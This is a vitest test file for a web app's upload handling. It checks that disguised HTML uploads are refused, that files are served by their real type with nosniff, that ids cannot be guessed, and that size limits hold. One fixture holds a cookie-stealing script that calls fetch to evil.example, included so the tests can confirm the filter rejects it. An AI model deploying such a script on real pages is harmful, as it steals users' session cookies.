import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBulkFile } from '../src/services/bulk.js';
import { startSandbox, type TestSandbox } from './support.js';

let sb: TestSandbox;
let seller: string;

// The smallest valid PNG (1×1, transparent).
const png = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
    'base64',
  ),
);
const html = new TextEncoder().encode(
  '<!doctype html><script>fetch("https://evil.example/?c="+document.cookie)</script>',
);

const message = async (res: Response) =>
  ((await res.json()) as { error: { message: string } }).error.message;

async function uploadImage(bytes: Uint8Array, name: string, type: string) {
  const form = new FormData();
  form.set('file', new File([bytes as Uint8Array<ArrayBuffer>], name, { type }));
  return sb.request('POST', '/api/upload/v1/upload/image', {
    token: seller,
    multipart: form,
    headers: { 'user-id': '1' },
  });
}

beforeAll(async () => {
  sb = await startSandbox();
  seller = await sb.login('seller@demo.id');
});

afterAll(async () => {
  await sb.close();
});

describe('uploaded files', () => {
  it('refuses HTML declared as an image', async () => {
    const res = await uploadImage(html, 'foto.png', 'image/png');
    expect(res.status).toBe(400);
    expect(await message(res)).toBe(
      "Kolom 'file' harus berupa gambar PNG, JPEG, WebP atau GIF (isi berkas bukan gambar).",
    );
  });

  it('stores a real image under an unguessable id and serves it as that image, with nosniff', async () => {
    const res = await uploadImage(png, 'foto.gif', 'image/gif');
    expect(res.status).toBe(201);
    const url = ((await res.json()) as { data: { url: string } }).data.url;
    expect(url).toMatch(
      /^\/media\/upload\/[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/,
    );
    const served = await sb.request('GET', url);
    expect(served.status).toBe(200);
    // The type comes from the bytes (PNG), not from the declared image/gif.
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-disposition')).toBeNull();
  });

  it('serves back a 2 MB image byte for byte', async () => {
    // A real PNG header followed by 2 MB of every byte value: nothing may be lost or re-encoded.
    const large = new Uint8Array(2 * 1024 * 1024 - 4096);
    large.set(png);
    for (let i = png.length; i < large.length; i += 1) large[i] = (i * 7919) & 255;
    const res = await uploadImage(large, 'besar-tapi-pas.png', 'image/png');
    expect(res.status).toBe(201);
    const url = ((await res.json()) as { data: { url: string } }).data.url;
    const served = new Uint8Array(await (await sb.request('GET', url)).arrayBuffer());
    expect(served.length).toBe(large.length);
    expect(Buffer.compare(Buffer.from(served), Buffer.from(large))).toBe(0);
  });

  it('answers 404 for a sequential id', async () => {
    const res = await sb.request('GET', '/media/upload/1');
    expect(res.status).toBe(404);
  });

  it('refuses an HTML file named .csv in a bulk upload', async () => {
    await expect(
      createBulkFile(
        sb.database.db,
        101,
        1,
        new File([html], 'evil.csv', { type: 'text/html' }),
        'product-model',
      ),
    ).rejects.toThrow(
      "Kolom 'file' bukan CSV yang valid: baris pertama harus berisi nama kolom yang dipisahkan koma.",
    );
  });

  it('refuses plain text named .csv with a reason instead of "0 dari 0 baris"', async () => {
    const text = new TextEncoder().encode('ini hanya catatan belanja\nbukan tabel\n');
    await expect(
      createBulkFile(sb.database.db, 101, 1, new File([text], 'catatan.csv'), 'product-model'),
    ).rejects.toThrow(
      "Kolom 'file' bukan CSV yang valid: baris pertama harus berisi nama kolom yang dipisahkan koma.",
    );
  });

  it('refuses a PNG named .xlsx', async () => {
    await expect(
      createBulkFile(
        sb.database.db,
        101,
        1,
        new File([png as Uint8Array<ArrayBuffer>], 'produk.xlsx'),
        'product-model',
      ),
    ).rejects.toThrow("Kolom 'file' bukan berkas Excel .xlsx yang valid.");
  });

  it('serves a stored non-image as a download, never as HTML', async () => {
    // A template's header row: a sheet with unknown headers is refused on the way in.
    const csv = new TextEncoder().encode('sku,stok\nA-1,3\n');
    const queued = await createBulkFile(
      sb.database.db,
      101,
      1,
      new File([csv], 'produk.csv', { type: 'text/html' }),
      'product-model',
    );
    expect(queued.status).toBe('queued');
    const { one } = await import('../src/db/query.js');
    const { sql } = await import('drizzle-orm');
    const row = await one<{ public_id: string; content_type: string }>(
      sb.database.db,
      sql`SELECT public_id, content_type FROM uploads WHERE file_name = 'produk.csv' ORDER BY id DESC LIMIT 1`,
    );
    expect(row?.content_type).toBe('text/csv; charset=utf-8');
    const served = await sb.request('GET', `/media/upload/${row!.public_id}`);
    expect(served.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment; filename="produk.csv"/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('answers 413 for an image body above the documented 2 MB', async () => {
    const res = await uploadImage(
      new Uint8Array(2 * 1024 * 1024 + 32 * 1024),
      'besar.png',
      'image/png',
    );
    expect(res.status).toBe(413);
    expect(await message(res)).toBe('Ukuran permintaan melebihi batas 2 MB.');
  });
});
